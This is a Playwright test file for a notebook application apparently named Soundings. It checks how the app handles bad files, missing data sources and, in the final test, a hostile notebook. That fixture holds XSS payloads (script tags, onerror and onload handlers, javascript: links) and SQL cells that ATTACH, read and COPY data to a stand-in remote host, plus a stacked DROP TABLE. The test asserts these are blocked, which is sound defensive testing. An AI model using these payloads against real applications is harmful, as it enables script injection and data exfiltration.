import { addData, cell, expect, fileOf, openNotebook, test, waitForCell, waitForIdle } from './fixture';
import { notebookOf, notebookText, openEmpty, openOn, rowsOf, source, sqlCell } from './journey';

test('files that are no table get a sentence, and the ones beside them are read', async ({ page }) => {
  await openEmpty(page);
  await addData(
    page,
    fileOf('empty.csv', ''),
    { name: 'pixels.csv', mimeType: 'text/csv', buffer: Buffer.from([0, 159, 146, 150, 0, 255, 1, 2, 0, 3]) },
    fileOf('zipped.csv', 'PK\u0003\u0004 and so on'),
    fileOf('header_only.csv', 'customer,amount\n'),
    fileOf('fine.csv', 'customer,amount\nann,1\n'),
  );
  await waitForIdle(page);
  await expect(source(page, 'empty').getByRole('alert')).toContainText('empty.csv is empty');
  await expect(source(page, 'pixels').getByRole('alert')).toContainText('not a text table');
  await expect(source(page, 'zipped').getByRole('alert')).toContainText(/Excel workbook|zip/);
  await expect(source(page, 'header_only')).toContainText('0 rows');
  await source(page, 'header_only')
    .getByRole('button', { name: /to check/ })
    .click();
  await expect(page.getByRole('dialog')).toContainText('has column names but no rows');
  await page.keyboard.press('Escape');
  await expect(source(page, 'fine')).toContainText('1 row');

  await source(page, 'empty')
    .getByLabel('File for empty')
    .setInputFiles([fileOf('full.csv', 'a,b\n1,2\n')]);
  await expect(source(page, 'empty')).toContainText('1 row');
  await expect(source(page, 'empty').getByRole('alert')).toHaveCount(0);
});

test('a file that is no notebook is refused with a sentence, and the open one stays', async ({ page }) => {
  await openOn(page, notebookOf([sqlCell('kept', 'SELECT 1 AS one')]));
  const before = await notebookText(page);
  const files = [
    ['readme.md', '# Just a readme\n'],
    ['other.md', '---\ntitle: A blog post\n---\n\nHello\n'],
    ['broken.md', '---\nsoundings: 1\ntitle: "never closed\n---\n'],
    ['binary.md', '---\nsoundings: 1\n---\n\u0000\u0001'],
    ['empty.md', ''],
  ] as const;
  for (const [name, text] of files) {
    await openNotebook(page, text, name);
    const notice = page.locator('.notice', { hasText: /notebook/ }).last();
    await expect(notice).toBeVisible();
    await notice.getByRole('button', { name: 'Dismiss' }).click();
  }
  await waitForCell(page, 'kept', 'done');
  expect(await notebookText(page)).toBe(before);
});

test('a notebook whose file is missing offers to bind it; the rest shows and runs', async ({ page }) => {
  const text = notebookOf(
    [
      '# Still here',
      sqlCell('needs_it', 'SELECT count(*) AS n FROM survey'),
      sqlCell('reads_that', 'SELECT n + 1 AS m FROM needs_it'),
      sqlCell('free', 'SELECT 42 AS answer'),
    ],
    ['sources:', '  survey:', '    file: customer survey.csv', `    sha256: ${'0'.repeat(64)}`],
  );
  await openOn(page, text);
  await waitForCell(page, 'free', 'done');
  await waitForCell(page, 'needs_it', 'failed');
  await expect(cell(page, 'needs_it')).toContainText('waits for survey');
  await waitForCell(page, 'reads_that', 'failed');
  await expect(page.getByRole('dialog')).toHaveCount(0);
  await expect(source(page, 'survey')).toContainText('customer survey.csv');
  expect(await notebookText(page)).toBe(text);

  await source(page, 'survey')
    .getByLabel('File for survey')
    .setInputFiles([fileOf('another name.csv', 'q1\n1\n2\n')]);
  await waitForCell(page, 'needs_it', 'done');
  await waitForCell(page, 'reads_that', 'done');
  expect(await rowsOf(page, 'reads_that')).toEqual([['3']]);
  await expect(source(page, 'survey')).toContainText('differs');
  await source(page, 'survey').getByRole('button', { name: 'Accept new file' }).click();
  await waitForIdle(page);
  const bound = await notebookText(page);
  expect(bound).toContain('file: another name.csv');
  expect(bound).not.toContain('0'.repeat(64));
});

const REMOTE = 'https://elsewhere.example';
const HOSTILE = [
  '---',
  'soundings: 1',
  `title: "</title><script>document.documentElement.dataset.owned = 1</script>"`,
  'sources:',
  '  survey:',
  `    file: "<img src=${REMOTE}/file.png onerror=document.documentElement.dataset.owned=1>"`,
  '    columns: { q1: { label: "<b onmouseover=alert(1)>x</b>" } }',
  '---',
  '',
  '# Hostile',
  '',
  `<script>document.documentElement.dataset.owned = 1</script>`,
  `<img src="${REMOTE}/pixel.png" onerror="document.documentElement.dataset.owned = 1" alt="a picture">`,
  `<iframe src="${REMOTE}"></iframe><svg onload="document.documentElement.dataset.owned = 1"><image href="${REMOTE}/i.png"/></svg>`,
  `<div style="background: url(${REMOTE}/bg.png)">styled</div><link rel="stylesheet" href="${REMOTE}/s.css">`,
  '',
  `![remote](${REMOTE}/markdown.png) [click](javascript:document.documentElement.dataset.owned=1)`,
  '',
  sqlCell('over_http', `SELECT * FROM read_csv('${REMOTE}/data.csv')`),
  '',
  sqlCell('attaches', `ATTACH '${REMOTE}/db.duckdb' AS stolen`),
  '',
  sqlCell('installs', 'INSTALL httpfs'),
  '',
  sqlCell('copies', `COPY (SELECT 1) TO '${REMOTE}/out.csv'`),
  '',
  sqlCell('two', 'SELECT 1 AS one; DROP TABLE fine'),
  '',
  '```sql name=fine title="<img src=x onerror=document.documentElement.dataset.owned=1>"',
  `SELECT '<script>document.documentElement.dataset.owned = 1</script>' AS "<i>name</i>"`,
  '```',
  '',
  '```chart name=drawn',
  'from: fine',
  'mark: bar',
  'x: <i>name</i>',
  'aggregate: count',
  'title: "<img src=x onerror=document.documentElement.dataset.owned=1>"',
  '```',
  '',
  '```input name=chosen',
  'type: choice',
  'label: "<img src=x onerror=document.documentElement.dataset.owned=1>"',
  'options: ["<script>1</script>", b]',
  'value: b',
  '```',
  '',
  '```hologram name=future beam=7',
  'kept:   exactly   # as it is',
  '```',
  '',
].join('\n');

test('a hostile notebook does nothing but show itself, and stays byte for byte', async ({ page }) => {
  await openEmpty(page);
  await openNotebook(page, HOSTILE, 'hostile.soundings.md');
  await waitForCell(page, 'fine', 'done');
  await waitForIdle(page);
  for (const name of ['over_http', 'attaches', 'installs', 'copies', 'two']) {
    await waitForCell(page, name, 'failed');
    await expect(cell(page, name).getByRole('alert')).toContainText(/\w+ \w+ .*\./);
  }
  await waitForCell(page, 'drawn', 'done');
  expect(await rowsOf(page, 'fine')).toEqual([
    ['<script>document.documentElement.dataset.owned = 1</script>'],
  ]);
  await expect(cell(page, 'future')).toContainText('made by a newer version of Soundings');
  await expect(page.locator('main').locator('script, iframe, img, link, object, embed')).toHaveCount(0);
  expect(
    await page
      .locator('#app *')
      .evaluateAll((all) => all.flatMap((one) => one.getAttributeNames()).filter((name) => /^on/.test(name))),
  ).toEqual([]);
  await expect(page.locator('main a[href^="javascript"]')).toHaveCount(0);
  await expect(cell(page, 'Hostile')).toContainText('picture not loaded: remote');
  await expect(cell(page, 'Hostile')).toContainText(
    '<script>document.documentElement.dataset.owned = 1</script>',
  );
  await expect(page.locator('html')).not.toHaveAttribute('data-owned');
  expect(await notebookText(page)).toBe(HOSTILE);
  // Requests, console errors and uncaught errors are the fixture's to notice.
});
